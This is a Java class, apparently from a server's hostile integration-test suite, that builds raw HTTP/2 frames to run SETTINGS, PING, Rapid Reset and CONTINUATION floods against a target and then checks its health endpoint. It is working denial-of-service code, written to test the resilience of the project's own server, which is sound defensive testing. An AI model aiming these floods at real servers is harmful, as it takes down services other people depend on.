package org.assistant.it.hostile.wire;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.assistant.it.hostile.attack.Attack;
import org.assistant.it.hostile.attack.Flood;
import org.assistant.it.hostile.attack.Outcome;
import org.assistant.it.hostile.attack.Target;
import org.assistant.it.hostile.attack.Victim;
import org.assistant.it.hostile.attack.Wire;
import org.assistant.it.hostile.attack.WireAnswer;

/** HTTP/2 frames in clear text, by prior knowledge, on one connection whose client never reads. */
public final class Http2Flood implements Attack {

    /** The frames of the flood. */
    public enum Frames {
        SETTINGS("C2a", "SETTINGS, answers not read"),
        PING("C2b", "PING, answers not read"),
        RAPID_RESET("C2c", "HEADERS and RST_STREAM"),
        CONTINUATION("C2d", "CONTINUATION without end");

        private final String id;
        private final String title;

        Frames(String id, String title) {
            this.id = id;
            this.title = title;
        }
    }

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final Duration GREETING = Duration.ofSeconds(3);
    private static final Duration HEALTHY = Duration.ofSeconds(2);
    private static final Duration FLOOD = Duration.ofSeconds(15);
    private static final long MOST_BYTES = 500_000_000;
    private static final int BLOCK_FRAMES = 1_000;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** GET http / localhost: three fields of HPACK's static table, and one whose name is in the table. */
    private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

    private final Frames frames;

    public Http2Flood(Frames frames) {
        this.frames = frames;
    }

    @Override
    public String id() {
        return frames.id;
    }

    @Override
    public String title() {
        return "HTTP/2: " + frames.title;
    }

    @Override
    public boolean isQuick() {
        return true;
    }

    @Override
    public boolean cripples() {
        return true;
    }

    @Override
    public Outcome run(Target target) throws IOException {
        Victim victim = target.secured();
        String refusal;
        try (Wire wire = Wire.from(Wire.STRANGER, victim)) {
            WireAnswer answer = wire.send(PREFACE).send(frame(SETTINGS, 0, 0)).answer(GREETING);
            byte[] came = wire.bytes();
            boolean spoken =
                    came.length >= 9 && came[3] == SETTINGS && answer.head().isEmpty();
            if (!spoken) {
                boolean over = answer.status() == 400 || (answer.status() == 0 && answer.closed());
                refusal = answer.status() > 0 ? "HTTP/1.1 " + answer.status() : answer.closed() ? "closed" : "silence";
                return Outcome.of(over || answer.status() >= 400, "the preface gets: %s", refusal);
            }
        }
        ByteArrayOutputStream first = new ByteArrayOutputStream();
        first.writeBytes(PREFACE);
        first.writeBytes(frame(SETTINGS, 0, 0));
        if (frames == Frames.CONTINUATION) {
            first.writeBytes(frame(HEADERS, END_STREAM, 1, GET));
        }
        int stream = 1;
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (int i = 0; i < BLOCK_FRAMES; i++, stream += 2) {
            switch (frames) {
                case SETTINGS ->
                    block.writeBytes(frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, (byte) 255, (byte) 255}));
                case PING -> block.writeBytes(frame(PING, 0, 0, new byte[8]));
                case CONTINUATION -> block.writeBytes(frame(CONTINUATION, 0, 1, new byte[] {0, 1, 'x', 1, 'y'}));
                case RAPID_RESET -> {
                    block.writeBytes(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
                    block.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
                }
            }
        }
        Flood flood = Flood.of(victim, first.toByteArray(), block.toByteArray(), FLOOD, MOST_BYTES);
        String health = victim.server().isAlive()
                ? "/health/live says " + victim.get("/health/live", "", HEALTHY).status()
                : "the server has ended";
        return Outcome.of(false, "HTTP/2 is spoken; %s; %s", flood, health);
    }

    private static byte[] frame(int type, int flags, int stream, byte... payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
